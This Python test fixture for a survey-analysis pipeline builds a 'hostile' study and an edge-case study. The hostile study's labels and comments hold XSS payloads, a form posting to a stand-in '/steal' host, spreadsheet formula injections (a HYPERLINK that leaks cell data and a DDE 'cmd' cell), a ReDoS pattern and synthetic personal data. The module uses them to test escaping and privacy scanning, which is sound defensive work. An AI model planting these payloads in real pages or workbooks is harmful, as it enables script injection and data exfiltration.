"""Two full runs on hostile input, made once per test session as one batch on two workers.

* ``hostile``: a one-brand study whose title, client, brand name, attribute and theme labels,
  segment values and comments hold HTML, script, style, form and spreadsheet formulas; whose
  comments are full of e-mail addresses, phone numbers and names (declared under ``pii:`` with
  the name and phone columns); and whose code frame holds ``(a+)+$``, a pattern that takes
  hours in a backtracking engine, with comments made to trigger it.  The browser test, the
  workbook test and the personal-data scan read its outputs
  (tests/test_hostile_outputs.py, tests/test_privacy_run.py).
* ``edge``: the analysis edge cases that used to end a run in a raw exception: 150
  respondents, every NPS answer 10 (no detractors, no passives), a segment level of two
  respondents.  The run must finish, saying in its notebooks what it could not compute.

The recipe of each is listed in tests/data/bad/cases.yaml (``runs:``).
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import yaml

from cvmkit.pipeline import run_batch
from cvmkit.simulate.shapes import write_shape

FAST = {"n_boot": 20, "n_repeats": 2, "n_sub": 0}

#: Hostile text, each a different way to inject an element into an HTML page.
SCRIPT = "<script>document.title='pwned'</script>Reliable"
STYLE = "<style>main{display:none}body{display:none}</style>Helpful"
IMG = "<img src=x onerror=\"document.title='pwned'\">Study"
IFRAME = "<iframe src=\"javascript:alert(1)\"></iframe>North"
FORM = "<form action=\"http://example.invalid/steal\"><input name=a></form>"
SEGMENT = "<b onmouseover=\"alert(1)\">A</b>"
SVG = "<svg onload=\"alert(1)\"><a xlink:href=\"javascript:alert(1)\">x</a></svg>"
#: Cells a spreadsheet would run as formulas.
FORMULAS = ("=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)")

#: Personal data typed into comments, besides the declared columns.
NAMES = ("Jo Bloggs", "Maria Gonzalez", "Li Wei", "Anna Schmidt")


def _hostile(folder: Path) -> Path:
    paths = write_shape(folder, "one_brand_full", n=200, seed=3)
    spec = yaml.safe_load(paths["study"].read_text(encoding="utf-8"))
    spec["title"] = IMG
    spec["client"] = FORM + "Client"
    spec["brand"] = {"name": IFRAME, "code": "northwind"}
    spec["attributes"][0]["label"] = SCRIPT
    spec["attributes"][1]["label"] = STYLE
    spec["attributes"][2]["label"] = FORMULAS[0]
    spec["attributes"][3]["label"] = FORMULAS[1]
    spec["codeframe"][0]["label"] = SVG
    spec["codeframe"].append({"id": "redos", "label": FORMULAS[3], "patterns": ["(a+)+$"]})
    spec["pii"] = ["email", "name", "phone"]
    paths["study"].write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    data = pd.read_csv(paths["responses"])
    rng = np.random.default_rng(15)
    n = len(data)
    data["name"] = [f"{NAMES[i % len(NAMES)]}{'' if i < len(NAMES) else f' {i}'}"
                    for i in range(n)]
    data["phone"] = [f"+44 7700 9{i:05d}" for i in range(n)]
    data["group"] = data["group"].replace("Group A", SEGMENT)
    comments = data["comment"].astype(object).fillna("")
    pick = rng.choice(n, size=n // 2, replace=False)
    for k, i in enumerate(pick):
        typed = [f"mail me at {data.at[i, 'email']}", f"call {data.at[i, 'phone']}",
                 f"regards, {data.at[i, 'name']}", f"my number is 07700 900{k:03d}",
                 "write to jo.bloggs+survey@example.co.uk", FORM + " the bill",
                 FORMULAS[k % 4], SCRIPT, "a" * 5000 + "!"][k % 9]
        comments.iat[i] = f"{comments.iat[i]} {typed}".strip()
    data["comment"] = comments
    data.to_csv(paths["responses"], index=False)
    return paths["study"]


def _edge(folder: Path) -> Path:
    paths = write_shape(folder, "one_brand_full", n=150, seed=5)
    data = pd.read_csv(paths["responses"])
    data["nps"] = 10
    data.loc[data.index[:2], "group"] = "Tiny"
    data.to_csv(paths["responses"], index=False)
    return paths["study"]


_CACHE: dict[str, object] = {}


def hostile_runs(tmp_path_factory) -> dict[str, Path]:
    """``{"hostile": run dir, "edge": run dir, "hostile_study": study file, …}``, made once."""
    if "runs" in _CACHE:
        runs = _CACHE["runs"]
        if isinstance(runs, AssertionError):
            raise runs
        return runs  # type: ignore[return-value]
    base = tmp_path_factory.mktemp("hostile_runs")
    studies = {"hostile": _hostile(base / "hostile"), "edge": _edge(base / "edge")}
    results = run_batch(list(studies.values()), jobs=2, out=base / "reports",
                        parameters=FAST, progress=None)
    by_source = {Path(r.source).resolve(): r for r in results}
    failed = {n: by_source[p.resolve()].error for n, p in studies.items()
              if by_source[p.resolve()].status != "ok"}
    if failed:
        _CACHE["runs"] = AssertionError(f"runs failed: {failed}")
        raise _CACHE["runs"]  # type: ignore[misc]
    runs = {n: by_source[p.resolve()].run_dir for n, p in studies.items()}
    runs.update({f"{n}_study": p for n, p in studies.items()})
    _CACHE["runs"] = runs
    return runs
